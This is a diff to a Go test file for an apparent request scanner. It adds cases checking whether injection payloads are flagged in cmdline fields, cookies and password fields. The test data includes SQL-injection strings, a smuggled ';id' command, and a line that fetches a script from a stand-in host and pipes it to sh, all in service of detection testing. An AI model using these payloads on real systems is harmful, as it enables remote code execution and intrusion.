@@ -25,6 +25,8 @@ func TestSourceInReports(t *testing.T) {
 		{[]string{"exception", "stacktrace"}, grave, false},
 		{[]string{"columns", "cmdline"}, "/bin/sh -c /usr/lib/apt/apt.systemd.daily", true},
 		{[]string{"cmdline"}, "/bin/sh -c /usr/lib/apt/apt.systemd.daily", false},
+		{[]string{"process", "cmdline"}, "/bin/sh -c /usr/lib/apt/apt.systemd.daily", true},
+		{[]string{"job", "cmdline"}, "192.0.2.7;id", false},
 		{[]string{"log", "file", "path"}, "/var/log/auth.log", true},
 		{[]string{"file", "path"}, "/var/log/auth.log", false},
 		{[]string{"stream", "filename"}, "/var/log/nginx/access.log", true},
@@ -55,6 +57,12 @@ func TestPasswordsThatProgramsMake(t *testing.T) {
 		{"user_passwd", "~`|{}[]\\:;\"'<>,.?/", true},
 		{"password", "Myp@ss'w0rd\"#", true},
 		{"pwd", "p@ss'w0rd\";--x&", true},
+		{"password", "kQ7'&x#=4R", true},
+		{"password", "kQ7'=3v#(9", true},
+		{"password", "kQ7'|9)w&#", true},
+		{"password", "kQ7'||(2)#", false},
+		{"password", "kQ7'&&!(0)#", false},
+		{"password", "kQ7'OR(1)--", false},
 		{"password", "Admin1'--", false},
 		{"password", "Admin1'#", false},
 		{"password", ";reboot", false},
@@ -70,5 +78,30 @@ func TestPasswordsThatProgramsMake(t *testing.T) {
 		if clean := len(s.Findings) == 0; clean != test.clean {
 			t.Errorf("%s=%q: findings %+v", test.name, test.data, s.Findings)
 		}
+	}
+}
+
+// TestWatchedPlaces reads a command where agents tell of processes, and where names are only alike.
+func TestWatchedPlaces(t *testing.T) {
+	const command = "192.0.2.7;wget http://h.example/k|sh"
+	in := func(build func(tree *point.Tree) point.Ref) int {
+		var tree point.Tree
+		values := []point.Value{value(build(&tree), command)}
+		values[0].Kind = point.Text
+		var s Scanner
+		Default().Scan(&s, &tree, values, 1, &Options{Score: evidence.Threshold})
+		return len(s.Findings)
+	}
+	if in(func(tree *point.Tree) point.Ref {
+		list := tree.AddName(tree.Add(0, point.JSONDoc), point.Hash, []byte("processes"))
+		return tree.AddName(tree.AddIndex(list, point.Array, 0), point.Hash, []byte("cmdline"))
+	}) > 0 {
+		t.Error("found in a list of processes")
+	}
+	if in(func(tree *point.Tree) point.Ref {
+		header := tree.AddName(0, point.Header, []byte("COOKIE"))
+		return tree.AddName(header, point.Cookie, []byte("cmdline"))
+	}) == 0 {
+		t.Error("not found in a cookie")
 	}
 }
